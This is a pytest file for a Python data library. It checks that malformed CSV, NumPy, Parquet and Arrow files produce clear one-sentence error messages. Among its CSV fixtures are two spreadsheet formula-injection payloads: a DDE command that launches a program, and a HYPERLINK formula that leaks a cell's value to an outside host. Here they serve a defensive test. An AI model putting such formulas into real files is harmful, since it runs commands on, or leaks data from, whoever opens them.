"""A person's mistakes: each is one sentence that says what is wrong and what to do."""

import gzip
import random
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from pyarrow import ipc, parquet

from npfs.data import BadTable, read_table
from tests.data.test_bad_files import damaged

CSV = "a,b,y\n1,2,3\n4,5,6\n7,8,10\n"


def problem(path: Path, content: str | bytes | None = None, **options: Any) -> str:
    """Return the sentence, without the path that it begins with."""
    if content is not None:
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    with pytest.raises(BadTable) as caught:
        read_table(path, **{"target": "y", **options})
    said = str(caught.value)
    assert "\n" not in said
    assert said.isprintable()
    begin = f"{str(path)!r}: "
    assert said.startswith(begin)
    return said.removeprefix(begin)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("", "it is empty; give a file with a row for each sample"),
        ("\n\n", "it holds no row; give a file with a row for each sample"),
        (b"\xef\xbb\xbf", "it holds no row; give a file with a row for each sample"),
        ("a,b,y\n", "it has a header and no row beneath it; add a row for each sample"),
        ("a,b,y", "it has a header and no row beneath it; add a row for each sample"),
        (
            '"a,b,y\n1,2,3\n',
            "it has a header and no row beneath it (is a quotation mark never closed?); add a row "
            "for each sample",
        ),
        (
            "y\n1\n2\n",
            "it has one column, the target; add one to predict it from, or give the right "
            "--separator",
        ),
        (
            "a b y\n1 2 3\n",
            "it has one column, 'a b y', and none 'y' for --target; are its cells parted by "
            "another character? Give it with --separator",
        ),
        (
            "a,b,y\n1,2,3\n4,5\n",
            "data row 2 has 2 cells where 3 are expected (separated by ','); correct the row, or "
            "give the separator with --separator",
        ),
        (
            "\n\na,b,y\n\n1,2,3\n4\n",
            "data row 2 has 1 cell where 3 are expected (separated by ','); correct the row, or "
            "give the separator with --separator",
        ),
        (
            "a,y\n1,2,3\n4,5,6\n",
            "its first row has 2 cells and the rows beneath it have 3 (separated by commas); give "
            "every column a name, or the separator with --separator",
        ),
        (
            "name,b,y\nAnn,2,3\nBo,5,6\n",
            "column 'name' holds text, such as 'Ann' in data row 1; choose columns of numbers, "
            "such as --features 'b'",
        ),
        (
            "a,t,y\n1,,3\n4,NA,6\n7,x,1\n",
            "column 't' holds text, such as 'x' in data row 3; choose columns of numbers, such as "
            "--features 'a'",
        ),
        (
            "a,n,c,y\n1,2,x,3\n5,oops,z,6\n",
            "column 'n' holds text, such as 'oops' in data row 2 (so do not hold numbers: 'c'); "
            "choose columns of numbers, such as --features 'a'",
        ),
        (
            "a,b,y\n1,=A1+B1,3\n4,\"=cmd|' /C calc'!A0\",6\n",
            "column 'b' holds text, such as '=A1+B1' in data row 1; choose columns of numbers, "
            "such as --features 'a'",
        ),
        (
            "a,b,y\n1,2,3\n4,\"=HYPERLINK(\"\"http://example.org/?leak=\"\"&A1)\",6\n",
            "column 'b' holds text, such as '=HYPERLINK(\"http://example.org/?leak=\"&A...' in "
            "data row 2; choose columns of numbers, such as --features 'a'",
        ),
        (
            'a,b,y\n1,"x\ny",3\n4,5,6\n',
            "column 'b' holds text, such as 'x\\ny' in data row 1; choose columns of numbers, such "
            "as --features 'a'",
        ),
        (
            "a,b,y\n1,2020-01-31,3\n4,2021-01-31,6\n",
            "column 'b' holds text, such as '2020-01-31' in data row 1; choose columns of numbers, "
            "such as --features 'a'",
        ),
        (
            'a;b;y\n1.5;"2,5";3\n2.5;"2.5";6\n3.5;1.5;1\n',
            # --decimal ',' would not help: there is a '2.5' as well.
            "column 'b' holds text, such as '2,5' in data row 1; choose columns of numbers, such "
            "as --features 'a'",
        ),
        (
            "a,b,y\n1,2,low\n4,5,high\n",
            "the target 'y' holds text, such as 'low' in data row 1; choose a column of numbers "
            "with --target",
        ),
        (
            "a,b,y\n1,,3\n4,,6\n",
            "column 'b' holds no value at all; choose columns of numbers, such as --features 'a'",
        ),
        (
            "a,b,y\n1,2,3\n4,,6\n,5,\n",
            "3 values missing in 'a', 'b', 'y', the first in data row 2 of 'b'; fill them in, or "
            "leave those rows out with --missing drop",
        ),
        (
            "a,b,y\n1,2,3\n4,inf,6\n",
            "column 'b' holds inf in data row 2, which no fit can use; correct the cell, or leave "
            "the column out",
        ),
        (
            "a,b,y\n1,2,3\n4,-1e400,6\n",
            "column 'b' holds -inf in data row 2, which no fit can use; correct the cell, or leave "
            "the column out",
        ),
        (
            "a,b,y\n1,2,3\n4,-2e150,6\n",
            "column 'b' holds -2e+150 in data row 2, whose square is too large for float64; give "
            "the column in a larger unit",
        ),
        (
            "a,b,z\n1,2,3\n",
            "it has no column 'y' for --target; its columns are 'a', 'b', 'z'",
        ),
        (
            "price,Yield,y2\n1,2,3\n",
            "it has no column 'y' for --target (did you mean 'y2'?); its columns are 'price', "
            "'Yield', 'y2'",
        ),
        (
            ",".join(f"c{k}" for k in range(12)) + "\n" + ",".join("1" * 12),
            "it has no column 'y' for --target; its columns are 'c0', 'c1', 'c2', 'c3', 'c4', "
            "'c5', 'c6', 'c7', 'c8', 'c9' and 2 more",
        ),
        (
            "a,y,y\n1,2,3\n",
            "2 columns have the name 'y'; give --target a position: 1, 2",
        ),
    ],
)  # fmt: skip
def test_what_is_wrong_with_a_csv_is_said(tmp_path: Path, content: str | bytes, said: str) -> None:
    assert problem(tmp_path / "my 'own' \"file\".csv", content) == said


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"target": 3}, "it has no column 3 for --target; its columns, from 0 to 2, are 'a', 'b', 'y'"),
        ({"target": "-4"}, "it has no column -4 for --target; its columns, from 0 to 2, are 'a', 'b', 'y'"),
        ({"features": ["A"]}, "it has no column 'A' for --features (did you mean 'a'?); its columns are 'a', 'b', 'y'"),
        ({"features": "c", "features_option": "--columns"}, "it has no column 'c' for --columns; its columns are 'a', 'b', 'y'"),
        ({"features": []}, "--features names no column; name at least one"),
        ({"features": ["a", 0]}, "--features names 'a' twice; name each column once"),
        ({"features": ["a", "y"]}, "'y' is the target and cannot be a feature too; leave it out of --features"),
        ({"missing": "fill"}, "--missing takes error or drop; got 'fill'"),
        ({"separator": ",,"}, "--separator takes one character such as , or ; or tab; got ',,'"),
        ({"separator": '"'}, "--separator takes one character such as , or ; or tab; got '\"'"),
        ({"decimal": "x"}, "--decimal takes . or a comma; got 'x'"),
        ({"decimal": ",", "separator": ","}, "--separator and --decimal cannot both be a comma"),
    ],
)  # fmt: skip
def test_a_bad_choice_is_named(tmp_path: Path, options: dict[str, Any], said: str) -> None:
    assert problem(tmp_path / "t.csv", CSV, **options) == said


def test_rows_are_those_of_the_file_after_others_were_left_out(tmp_path: Path) -> None:
    said = problem(tmp_path / "t.csv", "a,b,y\n,2,3\n1,,3\n4,inf,6\n", missing="drop")
    assert said.startswith("column 'b' holds inf in data row 3,")


def test_no_row_left_is_said(tmp_path: Path) -> None:
    said = problem(tmp_path / "t.csv", "a,b,y\n,2,3\n4,,6\n", missing="drop")
    assert said == (
        "2 values missing in 'a', 'b', the first in data row 1 of 'a', so no row is left; choose "
        "other columns"
    )


def test_text_far_down_is_found(tmp_path: Path) -> None:
    rows = "1,2,3\n" * 200_000
    said = problem(tmp_path / "t.csv", f"a,b,y\n{rows}1,oops,3\n{rows}")
    assert said.startswith("column 'b' holds text, such as 'oops' in data row 200001;")


def test_what_is_no_file_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert problem(tmp_path / "absent.csv") == "there is no such file; is the path right?"
    assert "it cannot be read (embedded null byte)" in problem(tmp_path / "nul\0.csv")
    assert "it cannot be read (File name too long)" in problem(tmp_path / ("x" * 1000))

    def refuse(*args: object) -> None:
        raise PermissionError(13, "Permission denied")

    (tmp_path / "locked.csv").write_text(CSV)
    monkeypatch.setattr(Path, "open", refuse)
    said = problem(tmp_path / "locked.csv")
    assert said == "it cannot be read (Permission denied); give the path of a file that can"


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="it has no such device")
def test_a_device_is_not_read() -> None:
    assert problem(Path("/dev/zero")) == "it is no plain file; give the path of one"


BINARY = "it is a binary file, and no Parquet, Arrow, .npy or .npz file; save the table as CSV or Parquet"


@pytest.mark.parametrize(
    "content",
    [
        random.Random(0).randbytes(5000),
        bytes(range(20)),
        b"a,b,y\n1,2\x1b[31m,3\n",
        gzip.compress(random.Random(0).randbytes(500)),
        "a,b,y\n1,2,3\n".encode("utf-16-le"),
    ],
)
def test_a_binary_file_that_is_called_csv_is_said_to_be_one(tmp_path: Path, content: bytes) -> None:
    assert problem(tmp_path / "t.csv", content) == BINARY


def test_an_excel_workbook_is_said_to_be_one(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "t.xlsx", "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    said = problem(tmp_path / "t.xlsx")
    assert said == (
        "it is a zip archive without arrays, as an Excel workbook is one; save the table as CSV"
    )


@pytest.mark.parametrize(
    ("array", "said"),
    [
        (np.arange(3), "its array has shape (3,); give one of two dimensions"),
        (np.zeros((0, 3)), "it has columns and no row; add a row for each sample"),
        (np.zeros((3, 0)), "it has no column; give a file with a column for each feature"),
        (np.array([[1, 2j]]), "the target 'column 1' holds values of type complex128, such as '2j'"),
        (np.array([["1", "2"]]), "the target 'column 1' holds values of type <U1, such as '2'"),
        (np.array([[1, None]]), "it cannot be read (Object arrays cannot be loaded"),
        (np.array([[1, 2], [np.nan, 2]]), "1 value missing in 'column 0', the first in data row 2"),
        (np.array([[1, 2], [2, 1]], np.longdouble) * 2.0, None),
        (np.array([["2020-01-01"] * 2], "M8[D]"), "the target 'column 1' holds values of type datetime"),
    ],
)  # fmt: skip
def test_what_is_wrong_with_an_array_is_said(
    tmp_path: Path, array: np.ndarray[Any, Any], said: str | None
) -> None:
    np.save(tmp_path / "t.npy", array)
    if said is None:
        assert read_table(tmp_path / "t.npy", target=1).X.tolist() == [[2], [4]]
    else:
        assert problem(tmp_path / "t.npy", target=-1).startswith(said)


def test_what_is_wrong_with_named_arrays_is_said(tmp_path: Path) -> None:
    np.savez(tmp_path / "t.npz", X=np.ones((3, 1)), y=np.arange(4))
    assert problem(tmp_path / "t.npz") == (
        "'X' has 3 values and 'y' has 4; choose columns of one length with --target and --features"
    )
    np.savez(tmp_path / "t.npz", X=np.ones((3, 1)), n=3, y=np.arange(3))
    assert problem(tmp_path / "t.npz") == (
        "column 'n' is an array of shape (), and no column of numbers; choose columns of numbers, "
        "such as --features 'X'"
    )


def test_what_is_wrong_with_a_parquet_file_is_said(tmp_path: Path) -> None:
    path = tmp_path / "t.parquet"
    columns = {"l": [[1], [2]], "t": pa.array(["u", "v"]).dictionary_encode(), "y": [1.0, 2.0]}
    parquet.write_table(pa.table(columns), path)
    assert problem(path) == (
        "column 'l' holds values of type list<element: int64>, such as '[1]' in data row 1 (so do "
        "not hold numbers: 't'); choose columns of numbers with --features"
    )
    twice = pa.Table.from_arrays([pa.array([1.0])] * 3, names=["a", "a", "y"])
    parquet.write_table(twice, path)
    assert problem(path, features=["a"]) == (
        "2 columns have the name 'a'; give --features a position: 0, 1"
    )
    parquet.write_table(pa.table({"a": pa.array([], pa.float64())}), path)
    assert problem(path, target="a") == "it has columns and no row; add a row for each sample"
    content = path.read_bytes()
    assert problem(path, content[:-20]).startswith("it cannot be read (Parquet magic bytes not")


def test_a_damaged_file_ends_in_a_sentence(tmp_path: Path) -> None:
    """Bytes changed, cut out or cut off: a table of finite numbers comes out, or a sentence."""
    rng = random.Random(0)
    numbers = np.random.default_rng(0).standard_normal((20, 3))
    table = pa.table(dict(zip("aby", numbers.T, strict=True)) | {"t": list("abcde" * 4)})
    parquet.write_table(table, tmp_path / "parquet")
    for kind, new in (("arrow", ipc.new_file), ("stream", ipc.new_stream)):
        options = ipc.IpcWriteOptions(compression="lz4" if kind == "arrow" else None)
        with new(tmp_path / kind, table.schema, options=options) as file:
            file.write_table(table)
    np.savez_compressed(tmp_path / "arrays.npz", X=numbers[:, :2], y=numbers[:, 2])
    np.save(tmp_path / "array.npy", numbers)
    text = "a,b,y\n" + "".join(",".join(map(str, row)) + "\n" for row in numbers)
    (tmp_path / "text").write_text(text)
    (tmp_path / "packed").write_bytes(gzip.compress(text.encode()))
    whole = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    outcomes = set()
    for _ in range(600):
        name = rng.choice(sorted(whole))
        (tmp_path / "damaged").write_bytes(damaged(rng, whole[name]))
        try:
            read = read_table(tmp_path / "damaged", target=1, features=[0], missing="drop")
        except BadTable:
            outcomes.add((name, "sentence"))
        else:
            assert np.isfinite(read.X).all()
            assert len(read.X) == len(read.y) > 0
            outcomes.add((name, "table"))
    assert {name for name, outcome in outcomes if outcome == "sentence"} == set(whole)


def test_text_that_lies_beyond_the_file_ends_no_process(tmp_path: Path) -> None:
    """Arrow believes the offsets of text in a file, unless it is told to check them."""
    texts = [f"text {k}" for k in range(100)]
    table = pa.table({"t": texts, "y": np.arange(100.0)})
    with ipc.new_stream(tmp_path / "t", table.schema) as file:
        file.write_table(table)
    ends = np.cumsum([len(text) for text in texts], dtype=np.int32)
    beyond = ends.copy()
    beyond[-50:] = 2**31 - 1
    content = (tmp_path / "t").read_bytes()
    assert content.count(ends.tobytes()) == 1
    said = problem(tmp_path / "t", content.replace(ends.tobytes(), beyond.tobytes()))
    assert said.startswith("it cannot be read (")


def test_an_error_that_is_ours_is_not_called_a_damaged_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("npfs.data.table.notes_on", None)
    (tmp_path / "t.csv").write_text(CSV)
    with pytest.raises(TypeError):
        read_table(tmp_path / "t.csv", target="y")
